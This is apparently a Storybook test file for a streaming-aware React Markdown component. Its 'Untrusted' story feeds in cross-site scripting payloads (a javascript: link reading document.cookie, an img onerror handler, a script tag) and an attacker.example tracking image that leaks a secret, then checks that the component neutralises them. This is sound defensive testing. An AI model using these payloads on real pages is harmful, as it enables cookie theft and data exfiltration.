import { Markdown } from '@sluice/react'
import type { Meta, StoryObj } from '@storybook/react-vite'
import { useEffect, useState } from 'react'
import { expect, waitFor } from 'storybook/test'
import { longMarkdown } from './support/messages.ts'

/** `Markdown` renders untrusted model output: streaming-aware, never raw HTML. */
const meta = {
  title: 'Components/Markdown',
  component: Markdown,
  args: { children: longMarkdown },
  decorators: [
    (Story) => (
      <div style={{ maxWidth: 720 }}>
        <Story />
      </div>
    ),
  ],
} satisfies Meta<typeof Markdown>

export default meta
type Story = StoryObj<typeof meta>

/** A long answer with every block type. */
export const Long: Story = {
  play: async ({ canvas }) => {
    await expect(canvas.getAllByRole('heading')).toHaveLength(5)
    await expect(canvas.getByRole('table')).toBeVisible()
    await expect(canvas.getByRole('blockquote')).toBeVisible()
    await expect(canvas.getByRole('separator')).toBeInTheDocument()
    await expect(canvas.getByText('old', { selector: 'del' })).toBeVisible()
  },
}

/** Half-written syntax at the tail is repaired while streaming: `**bo` already shows bold. */
export const IncompleteTail: Story = {
  args: { children: 'Here is the **important pa', streaming: true },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByText('important pa', { selector: 'strong' })).toBeVisible()
    await expect(canvasElement.querySelector('[data-markdown]')).toHaveAttribute('data-streaming')
  },
}

const growingText = longMarkdown.slice(0, 1200)

function GrowingMarkdown() {
  const [length, setLength] = useState(0)
  useEffect(() => {
    if (length >= growingText.length) return
    // About 40 characters a frame: the whole text in well under a second.
    const timer = setTimeout(() => setLength((current) => Math.min(growingText.length, current + 40)), 16)
    return () => clearTimeout(timer)
  }, [length])
  return <Markdown streaming={length < growingText.length}>{growingText.slice(0, length)}</Markdown>
}

/** The text grows chunk by chunk and ends as the same document a one-shot render gives. */
export const Growing: Story = {
  render: () => <GrowingMarkdown />,
  play: async ({ canvas, canvasElement }) => {
    await waitFor(() => expect(canvas.getByRole('heading', { level: 1 })).toBeVisible())
    await waitFor(
      () => expect(canvasElement.querySelector('[data-markdown]')).not.toHaveAttribute('data-streaming'),
      {
        timeout: 5000,
      },
    )
    await expect(canvas.getByRole('table')).toBeVisible()
  },
}

/** Hostile output: HTML is shown as text, `javascript:` links and remote images are neutralised. */
export const Untrusted: Story = {
  args: {
    children: [
      'Click [here](javascript:alert(document.cookie)) for a prize.',
      '',
      '<img src=x onerror="alert(1)"> <script>alert(2)</script>',
      '',
      '![tracking pixel](https://attacker.example/pixel.png?q=secret)',
    ].join('\n'),
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvasElement.querySelector('script')).toBeNull()
    await expect(canvasElement.querySelector('img[src^="https://attacker.example"]')).toBeNull()
    await expect(canvasElement.querySelector('a[href^="javascript:"]')).toBeNull()
    await expect(canvas.getByText(/<script>alert\(2\)<\/script>/)).toBeVisible()
    await expect(canvas.getByRole('button', { name: /Load image/ })).toBeVisible()
  },
}
